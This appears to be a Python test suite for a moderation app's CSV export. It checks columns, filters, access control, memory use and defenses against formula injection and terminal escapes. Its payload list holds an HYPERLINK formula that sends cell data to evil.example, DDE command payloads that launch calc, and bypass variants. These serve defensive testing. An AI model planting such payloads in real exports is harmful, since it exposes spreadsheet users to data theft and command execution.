"""Items as a file for spreadsheets: what is in it, what it never does there, and that its size costs no memory."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import unicodedata
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderate import Moderator
from moderate.i18n import translator
from moderate.moderation.items_csv import COLUMNS, ENDS, PAGE, TRIGGERS, disarmed, lines_of, pages_of
from tests.factories import HELD, NOON, a_comment
from tests.servers import ROOT
from tests.sites import Host
from tests.timing import quickly

if TYPE_CHECKING:
    from pathlib import Path

ADDRESS = "/discuss/moderation/items.csv"

#: What has run in one spreadsheet or another, and ways around a look at the first character.
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\"=1+1",
    "'=1+1",
    "”=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "\x00=1",
    "fine\n=1+1",
    "fine\r\n  =1+1",
    "fine;=1+1",
    "fine;\"=1+1",
    "fine\t@SUM(1)",
]  # fmt: skip


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path, MODERATE_LIMITS={})


def download(host: Host, query: str = "", **headers: str) -> Any:
    answer = host.client.get(f"{ADDRESS}?{query}", headers={**host.token(), **headers})
    assert answer.status_code == 200, answer.text
    return answer


def rows(answer: Any) -> list[dict[str, str]]:
    """The file as Python reads it."""
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""), strict=True))


def begins_a_formula(text: str) -> bool:
    """As a forgiving spreadsheet sees a cell: blanks, quotes and invisible characters are passed over."""
    for char in text:
        if unicodedata.normalize("NFKC", char)[:1] in {"=", "+", "-", "@", "−"}:
            return True
        if not (char.isspace() or char in '"`‘’“”＂＇' or unicodedata.category(char) in {"Cc", "Cf"}):
            # An apostrophe makes all that follows a text.
            return False
    return False


# --- the file -------------------------------------------------------------------------------------


def test_the_file_has_a_row_for_each_item_newest_first(host: Host) -> None:
    host.comment("The river froze twice.", email="mika@mail.example", url="https://mika.example/")
    host.comment('a, "b"\nand c; d', author="森 三日月 🌙")
    host.decide(2, "approve")
    second, first = rows(download(host))
    assert list(first) == list(COLUMNS)
    assert (first["id"], first["kind"], first["status"], first["awaiting"]) == ("1", "comment", "pending", "moderator")
    assert (first["article"], first["article_title"]) == ("thaw", "About thaw")
    assert (first["author"], first["email"], first["url"]) == ("Mika", "mika@mail.example", "https://mika.example/")
    assert (first["ip"], first["source_url"], first["edited_at"]) == ("127.0.0.1", "", "")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", first["created_at"])
    assert (second["text"], second["author"]) == ('a, "b"\nand c; d', "森 三日月 🌙")
    assert (second["status"], second["decided_by"], second["version"]) == ("approved", "mori", "2")


def test_the_encoding_is_detected_by_spreadsheets_and_browsers_download_the_file(host: Host) -> None:
    host.comment()
    answer = download(host, "status=pending")
    assert answer.data.startswith(b'\xef\xbb\xbf"id","kind",')
    assert answer.data.endswith(b"\r\n")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="items-pending-\d{4}-\d\d-\d\d\.csv"', answer.headers["Content-Disposition"]
    )
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert host.client.head(ADDRESS, headers=host.token()).status_code == 200


def test_the_export_accepts_the_filters_of_the_list_and_a_cursor(host: Host) -> None:
    for number in range(1, 6):
        host.comment(f"The river froze {number} times.", author="Mika" if number % 2 else "Nao")
    host.decide(1, "spam")
    assert [row["id"] for row in rows(download(host, "status=pending"))] == ["5", "4", "3", "2"]
    assert [row["id"] for row in rows(download(host, "author=Nao&kind=comment&status="))] == ["4", "2"]
    assert [row["id"] for row in rows(download(host, "q=froze+3"))] == ["3"]
    assert [row["id"] for row in rows(download(host, "limit=2"))] == ["5", "4"]
    assert [row["id"] for row in rows(download(host, "limit=2&cursor=4"))] == ["3", "2"]
    assert rows(download(host, "article=nowhere")) == []
    for wrong in ("status=lost", "limit=0", "cursor=x", "like=-1", "q=%00"):
        assert host.client.get(f"{ADDRESS}?{wrong}", headers=host.token()).status_code == 422


def test_only_moderators_can_export(host: Host) -> None:
    host.comment()
    assert host.client.get(ADDRESS).status_code == 401
    assert host.client.get(ADDRESS, headers={"Authorization": "Bearer guessed"}).status_code == 401
    assert host.client.post(ADDRESS, headers=host.token()).status_code == 405
    host.moderator = Moderator("mori")
    assert host.client.get(ADDRESS).status_code == 200


def test_findings_are_in_the_language_of_the_moderator(host: Host) -> None:
    host.comment("http://a.example http://b.example http://c.example")
    assert "links: 3 links, where up to 2 pass" in rows(download(host))[0]["findings"]
    told = rows(download(host, **{"Accept-Language": "ja"}))[0]
    assert "リンクが3個（2個まで可）" in told["findings"]
    assert told["status"] == "pending"


def test_a_changed_text_has_a_column_beside_the_public_one(host: Host) -> None:
    item = host.comment("Once.").json
    host.decide(1, "approve")
    host.client.patch("/discuss/items/1", json={"text": "Twice.", "edit_token": item["edit_token"]})
    (row,) = rows(download(host))
    assert (row["text"], row["changed_text"]) == ("Once.", "Twice.")


# --- what strangers wrote -------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_with_user_text_starts_as_a_formula(host: Host, text: str) -> None:
    with host.app.app_context():
        submission = a_comment(text=f"{text} {text}", author=text, email=text, url=text, idempotency_key="k")
        host.state.desk.store.items.record(submission, HELD, [], NOON)
    answer = download(host)
    (row,) = rows(answer)
    cells = [piece for cell in row.values() for piece in re.split(f"[{ENDS}]", cell)]
    assert not [cell for cell in cells if begins_a_formula(cell)]
    # Nor for a program that splits by semicolons, tabs or lines and does not see our quotes.
    pieces = re.split(r"[;\t\r\n]", answer.data.decode("utf-8-sig"))
    assert not [piece for piece in pieces if begins_a_formula(piece)]


def test_all_characters_that_fold_to_the_start_of_a_formula_are_covered() -> None:
    triggers = set(TRIGGERS.replace("\\", ""))
    folded = {
        char
        for char in map(chr, (*range(0xD800), *range(0xE000, 0x110000)))
        if unicodedata.normalize("NFKC", char)[:1] in {"=", "+", "-", "@", "−"}
    }
    assert folded == triggers


def documented_way_back() -> Any:
    """The function that the documentation shows to programs."""
    page = (ROOT / "docs" / "moderating.md").read_text(encoding="utf-8")
    block = next(code for code in re.findall(r"```python\n(.*?)```", page, re.DOTALL) if "def as_sent" in code)
    place: dict[str, Any] = {}
    exec(block, place)
    return place["as_sent"]


HOSTILE = st.text(st.sampled_from("=+-@＝−'\"“ \t\r\n;,a\u200b\ufeff"), max_size=30) | st.text(max_size=30)


@given(HOSTILE)
def test_the_protective_apostrophes_can_be_removed_again(text: str) -> None:
    shown = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", " ", text)
    assert documented_way_back()(disarmed(text)) == shown
    assert not any(begins_a_formula(piece) for piece in re.split(f"[{ENDS}]", disarmed(text)))
    assert disarmed(text)[:1] not in {"\t", "\r", "\n"}


@given(st.lists(st.lists(HOSTILE, min_size=len(COLUMNS), max_size=len(COLUMNS)), max_size=3))
def test_every_written_value_is_read_back(table: list[list[str]]) -> None:
    from moderate.moderation.items_csv import cell, written

    cells = [[cell(value) for value in line] for line in table]
    assert list(csv.reader(io.StringIO(written(cells), newline=""), strict=True)) == cells


def test_ordinary_texts_are_unchanged() -> None:
    for text in ("The river froze, +1!", "a - b", "mika@mail.example", "1; 2; 3", "“Ice”, she said", "三日月 = 🌙", ""):
        assert disarmed(text) == text


def test_any_text_is_escaped_quickly() -> None:
    # A pattern that looks on over line ends takes a minute.
    with quickly():
        for text in ("\n" * 150_000, " " * 150_000, "'" * 150_000, ";'" * 75_000, ("; " * 3 + "x") * 22_500):
            assert len(disarmed(text)) >= len(text)


# --- many -----------------------------------------------------------------------------------------


def fill(host: Host, number: int) -> None:
    """Store *number* items directly in the table, each with a kilobyte of text."""
    with host.app.app_context():
        store = host.state.desk.store
        store.items.record(a_comment(text="x" * 1000), HELD, [], NOON)
        engine = store.database.engine
        with engine.begin() as conn:
            columns = [row[1] for row in conn.exec_driver_sql("PRAGMA table_info(moderate_items)") if row[1] != "id"]
            names = ", ".join(columns)
            conn.exec_driver_sql(
                f"WITH RECURSIVE n(i) AS (SELECT 2 UNION ALL SELECT i + 1 FROM n WHERE i < {number}) "
                f"INSERT INTO moderate_items ({names}) SELECT {names} FROM moderate_items, n WHERE id = 1"
            )


def test_ten_times_the_items_use_no_more_memory(host: Host) -> None:
    fill(host, PAGE * 20)
    peaks = []
    for limit in (PAGE * 2, PAGE * 20):
        tracemalloc.start()
        answer = host.client.get(f"{ADDRESS}?limit={limit}", headers=host.token(), buffered=False)
        lines = sum(chunk.count(b"\r\n") for chunk in answer.iter_encoded())
        answer.close()
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert lines == limit + 1
    assert peaks[1] < peaks[0] * 1.2


def test_pages_have_no_gap_or_repeat_while_an_item_is_added(host: Host) -> None:
    fill(host, PAGE * 2 + 1)
    with host.app.app_context():
        store = host.state.desk.store
        from moderate.model import ItemFilter

        pages = pages_of(store, ItemFilter())
        ids = [item.id for item in next(pages)]
        store.items.record(a_comment(), HELD, [], NOON)
        ids += [item.id for page in pages for item in page]
    assert ids == list(range(PAGE * 2 + 1, 0, -1))
    assert next(lines_of([], translator("en"))).startswith(b"\xef\xbb\xbf")


def test_an_outage_before_the_first_row_is_reported_as_such(host: Host) -> None:
    headers = host.token()
    with host.app.app_context(), host.state.desk.store.database.engine.begin() as conn:
        conn.exec_driver_sql("ALTER TABLE moderate_articles RENAME TO away")
    answer = host.client.get(ADDRESS, headers=headers)
    assert (answer.status_code, answer.json["code"]) == (503, "unavailable")


# --- the page and the terminal --------------------------------------------------------------------


def test_the_queue_page_links_to_the_export_of_its_filter(host: Host) -> None:
    host.comment("One.", author="Nao")
    host.comment("Two.", author="Mika")
    host.moderator = Moderator("mori")
    page = host.client.get("/discuss/moderation/?author=Nao&status=pending").text
    link = re.search(r'href="([^"]+items\.csv[^"]*)"[^>]*>Download as CSV<', page)
    assert link is not None
    found = rows(host.client.get(link[1].replace("&amp;", "&")))
    assert [row["author"] for row in found] == ["Nao"]
    assert "items.csv" not in host.client.get("/discuss/moderation/?author=Nobody").text


def test_the_command_writes_the_same_file(host: Host) -> None:
    for text in ("One.", "=1+1", "red\nfine"):
        host.comment(text)
    host.decide(1, "approve")
    run = host.app.test_cli_runner()
    pending = run.invoke(args=["moderate", "queue", "--csv"])
    assert pending.stdout_bytes == download(host, "status=pending").data
    approved = run.invoke(args=["moderate", "queue", "--csv", "--status", "approved", "--limit", "1"])
    assert approved.stdout_bytes == download(host, "status=approved").data


def test_no_text_of_the_file_can_control_a_terminal(host: Host) -> None:
    with host.app.app_context():
        submission = a_comment(text="red\x1b[31m \x9b2J \x07", author="\x1b]0;title\x07")
        host.state.desk.store.items.record(submission, HELD, [], NOON)
    output = host.app.test_cli_runner().invoke(args=["moderate", "queue", "--csv"]).stdout
    assert not [char for char in output if unicodedata.category(char) == "Cc" and char not in "\r\n"]
